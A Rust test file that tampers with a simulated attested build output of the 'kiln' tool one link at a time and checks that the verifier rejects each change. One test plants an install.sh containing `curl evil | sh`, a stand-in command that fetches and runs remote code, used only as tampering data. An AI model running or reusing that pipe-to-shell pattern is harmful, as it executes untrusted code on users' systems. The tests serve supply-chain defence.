//! Tampering, one link at a time, with a real simulator build of the C example, checked
//! through the CLI: `kiln verify OUT --allow-simulated` must exit 1 and name the broken link
//! (`BROKEN <link>: <reason>`), and the reason must be the tampered one.
//!
//! The C example is built once (shared through a `OnceLock`) and each test tampers with its
//! own copy of the output. A second build with another nonce (same state folder, so the same
//! sealed key) supplies foreign evidence.
//!
//! Evidence that is *signed* along with the provenance but binds another statement or another
//! key cannot be produced through the CLI without the signing key; the library tests in
//! verifier/tests/build.rs cover it: `each_broken_link_is_named` (`Fault::bind_other_statement`
//! → `BuildError::StatementBinding`, `Fault::bind_other_key` → `BuildError::KeyBinding`) and
//! `a_statement_re_signed_by_the_genuine_key_for_other_subjects_is_rejected` (a stolen key
//! re-signing the statement for other artifacts beside the honest evidence).
//!
//! Needs the `kiln-enclave` binary next to `kiln` (`cargo build -p kiln-enclave`).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

mod common;

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use common::{
    assert_broken, build, copy_example, copy_output, read_bundle, verify, write_evidence_folder,
};
use kiln_verifier::build_output::dsse::{decode_base64, encode_base64};

const NONCE: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
const OTHER_NONCE: &str = "fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210";

/// Another ECDSA P-256 public key (generated once with openssl; its private key is gone).
const OTHER_KEY_PEM: &str = "-----BEGIN PUBLIC KEY-----
MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEbgNZwieGvXzjJNluqOzy/SCY8I92
fuydoDhiaiculmZRvKaMN4lqWkUfmBBMJsqte7rnC4kDhDXjRVPAk4YPOw==
-----END PUBLIC KEY-----
";

struct Fixture {
    /// Kept alive for the whole test binary (statics are never dropped: the folder lives
    /// under cargo's target/tmp).
    _root: tempfile::TempDir,
    state: PathBuf,
    /// The build with `NONCE`.
    out: PathBuf,
    summary: serde_json::Value,
    /// The same source, same key, built with `OTHER_NONCE`.
    other: PathBuf,
}

fn fixture() -> &'static Fixture {
    static F: OnceLock<Fixture> = OnceLock::new();
    F.get_or_init(|| {
        // The outputs and state live under cargo's target/tmp (a static is never dropped);
        // the project is copied outside the repository, or it would be packed as the
        // (empty) committed tree of kiln's own git work tree.
        let root = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        let src = tempfile::tempdir().unwrap();
        let proj = src.path().join("c-hello");
        copy_example("c-hello", &proj);
        let state = root.path().join("state");
        let out = root.path().join("out");
        let summary = build(&proj, &out, &state, NONCE);
        let other = root.path().join("other");
        let other_summary = build(&proj, &other, &state, OTHER_NONCE);
        assert_eq!(summary["keyId"], other_summary["keyId"], "same sealed key");
        Fixture {
            state,
            out,
            summary,
            other,
            _root: root,
        }
    })
}

/// Flips the lowest bit of byte `offset` of the file at `path`.
fn flip_bit(path: &Path, offset: usize) {
    let mut bytes = std::fs::read(path).unwrap();
    bytes[offset] ^= 0x01;
    std::fs::write(path, bytes).unwrap();
}

/// A fresh copy of the good output, and its temp folder (keep it alive).
fn copy() -> (tempfile::TempDir, PathBuf) {
    let f = fixture();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    copy_output(&f.out, &out);
    (dir, out)
}

fn verify_plain(out: &Path) -> std::process::Output {
    verify(out, &[], &fixture().state)
}

#[test]
fn the_untampered_output_verifies_with_every_expectation() {
    let f = fixture();
    let (_d, out) = copy();
    let measurement = f.summary["measurement"]["measurement"].as_str().unwrap();
    let source = f.summary["source"]["sha256"].as_str().unwrap();
    let o = verify(
        &out,
        &[
            "--expect-measurement",
            measurement,
            "--expect-source",
            source,
            "--nonce",
            NONCE,
        ],
        &f.state,
    );
    assert_eq!(o.status.code(), Some(0), "{}", common::text(&o));
    let report = String::from_utf8_lossy(&o.stdout);
    assert!(!report.contains("BROKEN"), "{report}");
    assert!(report.contains("ok  expectation"), "{report}");
}

#[test]
fn an_artifact_byte_breaks_the_artifacts_link() {
    let (_d, out) = copy();
    flip_bit(&out.join("artifacts/hello"), 200);
    assert_broken(
        &verify_plain(&out),
        "artifacts",
        "artifact \"hello\" has SHA-256",
    );
}

#[test]
fn an_extra_artifact_file_breaks_the_artifacts_link() {
    let (_d, out) = copy();
    std::fs::write(out.join("artifacts/backdoor.sh"), b"#!/bin/sh\n").unwrap();
    assert_broken(
        &verify_plain(&out),
        "artifacts",
        "artifacts/backdoor.sh is not a subject",
    );
}

#[test]
fn an_extra_file_beside_the_signed_output_breaks_the_layout_link() {
    for (name, dir) in [
        ("install.sh", false),
        ("README.md", false),
        ("extras", true),
    ] {
        let (_d, out) = copy();
        if dir {
            std::fs::create_dir(out.join(name)).unwrap();
        } else {
            std::fs::write(out.join(name), b"#!/bin/sh\ncurl evil | sh\n").unwrap();
        }
        let o = verify_plain(&out);
        assert_eq!(
            o.status.code(),
            Some(1),
            "{name}: a rejection, not an I/O error"
        );
        assert_broken(
            &o,
            "layout",
            &format!("{name} is not part of the signed output"),
        );
    }
    // A file named like a part of the output, but of the wrong kind, is refused too.
    let (_d, out) = copy();
    std::fs::remove_dir_all(out.join("evidence")).unwrap();
    std::fs::write(out.join("evidence"), b"").unwrap();
    assert_broken(
        &verify_plain(&out),
        "layout",
        "evidence is not part of the signed output",
    );
}

#[test]
fn a_missing_artifact_breaks_the_artifacts_link() {
    let (_d, out) = copy();
    std::fs::remove_file(out.join("artifacts/hello")).unwrap();
    assert_broken(
        &verify_plain(&out),
        "artifacts",
        "subject \"hello\" has no file",
    );
}

#[test]
fn one_character_of_the_signed_statement_breaks_the_signature() {
    let (_d, out) = copy();
    let mut bundle = read_bundle(&out);
    let payload = decode_base64(bundle["dsseEnvelope"]["payload"].as_str().unwrap()).unwrap();
    let mut statement = String::from_utf8(payload).unwrap();
    // Claim another artifact digest: change the last hex digit of the subject's sha256.
    let digest = fixture().summary["subjects"][0]["digest"]["sha256"]
        .as_str()
        .unwrap()
        .to_owned();
    let last = digest.chars().last().unwrap();
    let forged = format!(
        "{}{}",
        &digest[..digest.len() - 1],
        if last == '0' { '1' } else { '0' }
    );
    assert!(statement.contains(&digest));
    statement = statement.replacen(&digest, &forged, 1);
    bundle["dsseEnvelope"]["payload"] = encode_base64(statement.as_bytes()).into();
    write_evidence_folder(&out, &bundle);
    assert_broken(
        &verify_plain(&out),
        "signature",
        "does not verify with the public key",
    );
}

#[test]
fn a_signature_byte_breaks_the_signature() {
    let (_d, out) = copy();
    common::tamper_signature(&out);
    assert_broken(
        &verify_plain(&out),
        "signature",
        "does not verify with the public key",
    );
}

#[test]
fn an_evidence_byte_breaks_the_evidence_link() {
    let (_d, out) = copy();
    // Inside the SEV-SNP report's REPORT_DATA (offset 0x50..0x90).
    flip_bit(&out.join("evidence/evidence.bin"), 0x60);
    assert_broken(
        &verify_plain(&out),
        "evidence",
        "evidence file evidence.bin: differs from the signed copy",
    );
}

#[test]
fn another_public_key_breaks_the_key_link() {
    let (_d, out) = copy();
    std::fs::write(out.join("public-key.pem"), OTHER_KEY_PEM).unwrap();
    assert_broken(&verify_plain(&out), "public-key", "the public key's id is");
}

fn other_key_id() -> String {
    let body: String = OTHER_KEY_PEM
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect();
    kiln_verifier::build_output::key_id(&decode_base64(&body).unwrap())
}

#[test]
fn another_public_key_with_a_rewritten_hint_still_breaks_the_key_link() {
    // The bundle's hint names the new key, but the DSSE signature's keyid still names the
    // original one.
    let (_d, out) = copy();
    std::fs::write(out.join("public-key.pem"), OTHER_KEY_PEM).unwrap();
    let mut bundle = read_bundle(&out);
    bundle["verificationMaterial"]["publicKey"]["hint"] = other_key_id().into();
    write_evidence_folder(&out, &bundle);
    assert_broken(&verify_plain(&out), "public-key", "the public key's id is");
}

#[test]
fn another_public_key_named_everywhere_breaks_the_signature() {
    // Hint and keyid both name the new key: the only thing left is the signature, which the
    // new key did not make.
    let (_d, out) = copy();
    std::fs::write(out.join("public-key.pem"), OTHER_KEY_PEM).unwrap();
    let mut bundle = read_bundle(&out);
    let id = other_key_id();
    bundle["verificationMaterial"]["publicKey"]["hint"] = id.clone().into();
    bundle["dsseEnvelope"]["signatures"][0]["keyid"] = id.into();
    write_evidence_folder(&out, &bundle);
    assert_broken(
        &verify_plain(&out),
        "signature",
        "does not verify with the public key",
    );
}

#[test]
fn evidence_of_another_request_breaks_the_evidence_link() {
    // The evidence of a build with another nonce (same key): on its own genuine, but not the
    // evidence this provenance signed (its REPORT_DATA binds another request).
    let f = fixture();
    let (_d, out) = copy();
    let a = std::fs::read(out.join("evidence/evidence.bin")).unwrap();
    let b = std::fs::read(f.other.join("evidence/evidence.bin")).unwrap();
    assert_ne!(a, b);
    std::fs::remove_dir_all(out.join("evidence")).unwrap();
    copy_output(&f.other.join("evidence"), &out.join("evidence"));
    assert_broken(
        &verify_plain(&out),
        "evidence",
        "evidence file evidence.bin: differs from the signed copy",
    );
    // The other build itself verifies: the evidence is genuine, just not this output's.
    let o = verify_plain(&f.other);
    assert_eq!(o.status.code(), Some(0), "{}", common::text(&o));
}

#[test]
fn a_whole_output_replayed_from_another_request_breaks_the_nonce() {
    // Provenance + evidence of the build with OTHER_NONCE, over the same artifact: consistent
    // in itself, so only the caller's nonce can tell the replay.
    let f = fixture();
    let (_d, out) = copy();
    std::fs::remove_dir_all(out.join("evidence")).unwrap();
    copy_output(&f.other.join("evidence"), &out.join("evidence"));
    for file in [
        "provenance.sigstore.json",
        "sbom.spdx.json",
        "sbom.spdx.sigstore.json",
        "sbom.cyclonedx.json",
        "sbom.cyclonedx.sigstore.json",
    ] {
        std::fs::copy(f.other.join(file), out.join(file)).unwrap();
    }
    let ok = verify_plain(&out);
    assert_eq!(ok.status.code(), Some(0), "{}", common::text(&ok));
    let o = verify(&out, &["--nonce", NONCE], &f.state);
    assert_broken(
        &o,
        "expectation",
        &format!("nonce is {OTHER_NONCE}, expected {NONCE}"),
    );
}

#[test]
fn another_expected_nonce_breaks_the_expectation() {
    let (_d, out) = copy();
    let o = verify(&out, &["--nonce", OTHER_NONCE], &fixture().state);
    let report = assert_broken(
        &o,
        "expectation",
        &format!("nonce is {NONCE}, expected {OTHER_NONCE}"),
    );
    // Every link before the expectations held.
    assert!(report.contains("ok  statement-binding"), "{report}");
    assert!(report.contains("ok  artifacts"), "{report}");
}

#[test]
fn another_expected_measurement_breaks_the_expectation() {
    let (_d, out) = copy();
    let real = fixture().summary["measurement"]["measurement"]
        .as_str()
        .unwrap();
    let other = "ab".repeat(48);
    assert_ne!(real, other);
    let o = verify(&out, &["--expect-measurement", &other], &fixture().state);
    assert_broken(
        &o,
        "expectation",
        &format!("measurement is {real}, expected {other}"),
    );
}

#[test]
fn another_expected_source_digest_breaks_the_expectation() {
    let (_d, out) = copy();
    let other = "cd".repeat(32);
    let o = verify(&out, &["--expect-source", &other], &fixture().state);
    let report = assert_broken(&o, "expectation", &format!("expected {other}"));
    assert!(report.contains("source"), "{report}");
}

#[test]
fn a_tampered_sbom_breaks_the_sbom_link_and_kiln_sbom_prints_nothing() {
    let f = fixture();
    // Untampered: `kiln sbom` prints the verified document, exactly the file.
    let (_d, out) = copy();
    let reference = common::sim_reference("sev-snp", &f.state);
    let sbom = |out: &Path, format: &str| {
        common::kiln(
            &[
                "sbom",
                out.to_str().unwrap(),
                "--format",
                format,
                "--allow-simulated",
                "--reference",
                reference.to_str().unwrap(),
            ],
            &f.state,
        )
    };
    for (format, file) in [
        ("spdx", "sbom.spdx.json"),
        ("cyclonedx", "sbom.cyclonedx.json"),
    ] {
        let o = sbom(&out, format);
        assert_eq!(o.status.code(), Some(0), "{}", common::text(&o));
        let mut want = std::fs::read(out.join(file)).unwrap();
        want.push(b'\n');
        assert_eq!(o.stdout, want, "{format}");
    }
    assert_eq!(sbom(&out, "swid").status.code(), Some(2));

    // One byte of the plain SPDX document: the sbom link breaks, naming the file.
    let (_d, out) = copy();
    let len = std::fs::metadata(out.join("sbom.spdx.json")).unwrap().len();
    flip_bit(
        &out.join("sbom.spdx.json"),
        usize::try_from(len / 2).unwrap(),
    );
    assert_broken(&verify_plain(&out), "sbom", "sbom.spdx.json: its SHA-256");
    let o = sbom(&out, "spdx");
    assert_eq!(o.status.code(), Some(1));
    assert!(o.stdout.is_empty(), "nothing printed for a broken output");
    assert!(String::from_utf8_lossy(&o.stderr).contains("BROKEN sbom"));

    // The CycloneDX bundle removed.
    let (_d, out) = copy();
    std::fs::remove_file(out.join("sbom.cyclonedx.sigstore.json")).unwrap();
    assert_broken(
        &verify_plain(&out),
        "sbom",
        "sbom.cyclonedx.sigstore.json: named by the provenance but missing",
    );
}
